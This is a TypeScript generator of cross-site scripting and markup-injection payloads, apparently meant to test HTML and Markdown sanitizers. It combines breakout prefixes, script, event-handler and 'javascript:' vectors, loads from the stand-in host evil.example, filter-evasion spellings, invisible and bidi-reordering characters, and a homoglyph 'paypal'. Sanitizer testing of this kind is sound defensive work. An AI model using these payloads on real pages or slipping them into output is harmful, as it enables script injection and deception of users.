/** Calls what must never be called. */
const act = "__hit()";

/** Ways to get out of where a text stands. */
const escapes = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</pre></code>",
  "-->",
  "]]>",
  "\\\"'/>",
  "{{",
  "${",
  "](",
  "\n\n",
  "\u2028",
  "</bdi></span>",
];

/** Ways to make a browser do something. */
const deeds = [
  `<script>${act}</script>`,
  `<script src="//evil.example/x.js"></script>`,
  `<img src=x onerror=${act}>`,
  `<img src="http://evil.example/p.png">`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><use href="http://evil.example/s.svg#x"/></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="http://evil.example/o"></object>`,
  `<embed src="http://evil.example/e">`,
  `<link rel=stylesheet href="http://evil.example/c.css">`,
  `<style>@import "http://evil.example/i.css";</style>`,
  `<div style="background:url(http://evil.example/b.png)">`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<form action="http://evil.example/"><button autofocus onfocus=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<body onload=${act}>`,
  `<marquee onstart=${act}>`,
  `<a href="javascript:${act}">x</a>`,
  `[x](javascript:${act})`,
  `[x](data:text/html,<script>${act}</script>)`,
  `![x](http://evil.example/m.png)`,
  `![x](javascript:${act})`,
  `<http://evil.example/auto>`,
  `http://evil.example/bare`,
  `[r]: javascript:${act}`,
  `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${act}>]\n\`\`\``,
  `$$\\href{javascript:${act}}{x}$$`,
  `<x-y onclick=${act} is=z>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `constructor.constructor('${act}')()`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
];

/** Characters that hide, reorder or pass for others. */
const unseen = [
  "\u202e",
  "\u202d",
  "\u202a",
  "\u202b",
  "\u202c",
  "\u2066",
  "\u2067",
  "\u2068",
  "\u2069",
  "\u200e",
  "\u200f",
  "\u061c",
  "\u200b",
  "\u2060",
  "\u2063",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u180e",
  "\u{e0041}",
  "\u{e007f}",
  "\u0007",
  "\u0008",
  "\u001b[31m",
  "\u009b",
  "\u007f",
];

/** How the same thing is spelled so that a filter misses it. */
const spellings: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<([a-z]+)/gi, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replace(/<([a-z]+) /gi, "<$1/"),
  (text) => text.replace(/<([a-z]+) /gi, "<$1\t\n"),
  (text) => text.replaceAll("javascript:", "jav&#x09;ascript:"),
  (text) => text.replaceAll("javascript:", " JaVaScRiPt\u0001:"),
];

/** At least `count` different texts that would do harm on a page that trusts one of them; the same ones each time. */
export function makePayloads(count: number): string[] {
  const payloads = new Set<string>();
  for (let turn = 0; payloads.size < count; turn++) {
    for (const [i, deed] of deeds.entries()) {
      const leave = escapes[(i + turn * 7) % escapes.length]!;
      const spell = spellings[(i + turn) % spellings.length]!;
      payloads.add(`${leave}${spell(deed)}`);
    }
    for (const [i, character] of unseen.entries()) {
      const deed = deeds[(i * 5 + turn) % deeds.length]!;
      const at = (i + turn * 3) % (deed.length - 1);
      payloads.add(`${deed.slice(0, at)}${character}${deed.slice(at)}`);
      if (turn < 4) payloads.add(`if (admin${character}) { /*${character} begin ${turn} p\u0430ypal */`);
    }
  }
  return [...payloads].slice(0, count);
}
